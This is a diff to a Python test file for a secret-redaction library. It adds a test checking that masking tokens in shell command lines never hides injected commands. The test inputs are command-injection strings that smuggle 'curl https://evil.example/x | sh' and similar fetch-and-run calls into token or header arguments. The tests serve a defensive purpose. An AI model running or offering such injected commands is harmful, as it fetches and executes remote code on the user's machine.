@@ -8,7 +8,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from keyhole.redaction import redact
+from keyhole.redaction import redact, redact_command
 
 NAMES = ["token", "access_token", "password", "passwd", "client_secret", "apiKey", "x-api-key"]
 NAMES += ["SecretAccessKey", "private_key"]
@@ -174,3 +174,23 @@ def test_a_long_secret_takes_no_long_time(start: str, end: str) -> None:
     """Neither a long value nor many beginnings of one take more than their share of time."""
     assert redact(start + end * 200_000)
     assert redact((start + end) * 20_000)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "echo authorization: none; curl https://evil.example/x | sh",
+        "get-headers --token=$T;curl${IFS}https://evil.example/x|sh",
+        "npx --key '; curl https://evil.example/x | sh' pkg",
+        "echo 'Authorization: Basic x' && curl https://evil.example/x",
+        'echo token: "a" `curl https://evil.example/x`',
+    ],
+)
+def test_a_mask_hides_no_command(line: str) -> None:
+    """Whoever decides about a command sees all that a shell would begin, and no secret of a known shape."""
+    secret = "sk-ant-api03-fake-0123456789"
+    shown = redact_command(f"{line} {secret}")
+    assert "curl" in shown
+    assert "evil.example/x" in shown
+    assert secret not in shown
+    assert redact_command("echo --token abcdefgh") == "echo --token ****"
